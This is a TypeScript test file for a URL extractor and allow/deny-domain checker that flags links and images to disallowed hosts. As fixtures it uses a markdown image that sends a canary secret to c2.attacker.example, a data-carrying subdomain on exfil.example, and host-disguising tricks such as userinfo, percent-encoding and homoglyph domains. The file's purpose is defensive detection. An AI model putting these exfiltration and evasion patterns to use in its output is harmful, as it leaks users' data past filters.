import type { UrlsCheck } from '../rule-schema';
import { checkInput } from './check';
import { regexSafetyProblem } from './regex-safety';
import { findUrls, HTML_ATTR, WWW } from './url-extract';
import { compileUrls } from './urls';

function compile(check: Omit<UrlsCheck, 'type'>) {
  const problems: string[] = [];
  const compiled = compileUrls(
    { type: 'urls', ...check },
    { path: 'rules[0].check', stage: 'output', problems, depth: 0 },
  );
  return { compiled, problems };
}

function urls(check: Omit<UrlsCheck, 'type'>) {
  const { compiled, problems } = compile(check);
  if (compiled === null) throw new Error(problems.join('\n'));
  return (text: string) =>
    compiled.run(checkInput([{ name: 'text', text }]), false)?.detail ?? null;
}

const hosts = (text: string) => findUrls(text).map((u) => `${u.kind}:${u.host}`);

describe('findUrls', () => {
  it('finds plain URLs, markdown links and images, reference definitions and HTML attributes', () => {
    const text = [
      'See https://docs.example.com/a?b=c, or www.example.org.',
      '[guide](https://guide.example.net/x "title") and ![logo](https://cdn.example.io/l.png)',
      '[ref]: https://ref.example.dev/',
      '<img src="https://img.example.xyz/p.gif"> <a href=\'//proto.example.co/\'>x</a>',
    ].join('\n');
    expect(hosts(text)).toEqual([
      'url:docs.example.com',
      'url:www.example.org',
      'link:guide.example.net',
      'image:cdn.example.io',
      'link:ref.example.dev',
      'link:img.example.xyz',
      'link:proto.example.co',
    ]);
  });

  it('reads hosts as a browser does', () => {
    expect(hosts('https://good.example@evil.example/')).toEqual(['url:evil.example']);
    expect(hosts('https://%65vil.example/')).toEqual(['url:evil.example']);
    expect(hosts('HTTPS://EVIL.EXAMPLE./x')).toEqual(['url:evil.example']);
    expect(hosts('http://2130706433/')).toEqual(['url:127.0.0.1']);
    expect(hosts('https://gооgle.com/')).toEqual(['url:xn--ggle-55da.com']);
    expect(hosts('https://evil。example/')).toEqual(['url:evil.example']);
  });

  it('resolves markdown targets that a renderer would fetch from another host', () => {
    expect(hosts('![a](//evil.example/p.png)')).toEqual(['image:evil.example']);
    expect(hosts('![a](\\\\evil.example/p.png)')).toEqual(['image:evil.example']);
    expect(hosts('![a]( <https://evil.example/p.png> )')).toEqual(['image:evil.example']);
  });

  it('ignores relative links and text that only looks like a URL', () => {
    expect(hosts('[docs](/docs) [top](#top) [mail](mailto:a@b.example) a://')).toEqual([]);
    expect(hosts('the word www.')).toEqual([]);
  });

  it('uses only patterns that recheck proves linear', () => {
    for (const re of [HTML_ATTR, WWW]) expect(regexSafetyProblem(re.source, 'i')).toBeNull();
  });

  it.each([
    ['](', 200_000],
    ['://', 200_000],
    ['src=', 100_000],
    ['www.', 100_000],
    [']:', 200_000],
    ['[![', 100_000],
  ])('stays linear on %s repeated %i times', (marker, times) => {
    const text = marker.repeat(times);
    const t0 = performance.now();
    findUrls(text);
    expect(performance.now() - t0).toBeLessThan(1_500);
  });
});

describe('urls', () => {
  it('flags a denied domain and its subdomains, naming the list entry', () => {
    const check = urls({ deny_domains: ['evil.example'] });
    expect(check('go to https://evil.example/x')).toBe('url to denied domain evil.example in text');
    expect(check('go to https://a.b.evil.example/x')).toBe(
      'url to denied domain evil.example in text',
    );
    expect(check('https://notevil.example/ and https://evil.example.org/')).toBeNull();
  });

  it('flags the markdown image exfiltration channel without putting the data in the detail', () => {
    const check = urls({ allow_domains: ['cdn.example.com'] });
    const detail = check('Done! ![x](https://c2.attacker.example/?q=SECRET-CANARY-1234)');
    expect(detail).toBe('image to *.attacker.example, not in allow_domains, in text');
    expect(
      check('![x](https://cdn.example.com/ok.png) ![y](https://img.cdn.example.com/)'),
    ).toBeNull();
  });

  it('names only the last two labels of a host off the allow list (labels can carry data)', () => {
    const check = urls({ allow_domains: ['example.com'] });
    expect(check('https://c2VjcmV0LWNhbmFyeQ.exfil.example/')).toBe(
      'url to *.exfil.example, not in allow_domains, in text',
    );
  });

  it('lets deny win over allow', () => {
    const check = urls({ allow_domains: ['example.com'], deny_domains: ['bad.example.com'] });
    expect(check('https://www.example.com/')).toBeNull();
    expect(check('https://x.bad.example.com/')).toBe(
      'url to denied domain bad.example.com in text',
    );
  });

  it('sees through userinfo and encoding tricks', () => {
    const check = urls({ allow_domains: ['good.example'] });
    expect(check('[ok](https://good.example@evil.example/)')).toBe(
      'link to evil.example, not in allow_domains, in text',
    );
    expect(check('![x](//evil.example/p.png)')).toBe(
      'image to evil.example, not in allow_domains, in text',
    );
  });

  it('accepts IDNs and wildcards in the lists and compares them as punycode', () => {
    const check = urls({ deny_domains: ['*.bücher.example'] });
    expect(check('https://shop.xn--bcher-kva.example/')).toBe(
      'url to denied domain xn--bcher-kva.example in text',
    );
  });

  it('gives the span of every offending URL when the rule redacts', () => {
    const text = 'a https://evil.example/1 b ![i](https://evil.example/2) c https://ok.example/';
    const { compiled } = compile({ deny_domains: ['evil.example'] });
    const v = compiled?.run(checkInput([{ name: 'text', text }]), true);
    expect(v?.spans?.map((s) => text.slice(s.start, s.end))).toEqual([
      'https://evil.example/1',
      'https://evil.example/2',
    ]);
  });

  it('refuses list entries that are not domain names', () => {
    expect(
      compile({ allow_domains: ['https://x.example', 'x.example/path', 'a*.example'] }).problems,
    ).toEqual([
      'rules[0].check.allow_domains[0]: must be a domain name (no scheme, port, path or wildcard)',
      'rules[0].check.allow_domains[1]: must be a domain name (no scheme, port, path or wildcard)',
      'rules[0].check.allow_domains[2]: must be a domain name (no scheme, port, path or wildcard)',
    ]);
  });
});
